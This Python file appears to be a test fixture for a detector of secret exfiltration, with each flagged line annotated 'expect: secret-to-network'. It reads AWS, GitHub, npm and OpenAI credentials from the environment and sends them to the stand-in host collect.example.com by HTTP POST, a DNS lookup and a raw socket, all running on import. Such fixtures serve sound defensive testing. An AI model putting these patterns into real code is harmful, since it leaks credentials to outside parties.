import os
import socket
import requests

TARGET = "https://collect.example.com/v1"


def collect():
    found = {}
    found["key"] = os.environ.get("AWS_SECRET_ACCESS_KEY")
    return found


def deliver(address, body):
    # expect: secret-to-network
    requests.post(address, json=body)


class Session:
    def __init__(self):
        self.token = os.getenv("GITHUB_TOKEN")

    def report(self):
        lines = []
        lines.append(f"t={self.token}")
        # expect: secret-to-network
        requests.post(TARGET, data="\n".join(lines))


deliver(TARGET, collect())
Session().report()
name = os.environ["NPM_TOKEN"]
# expect: secret-to-network
socket.gethostbyname(name + ".example.com")
peer = socket.socket()
peer.connect(("collect.example.com", 443))
# expect: secret-to-network
peer.sendall(os.environ["OPENAI_API_KEY"].encode())
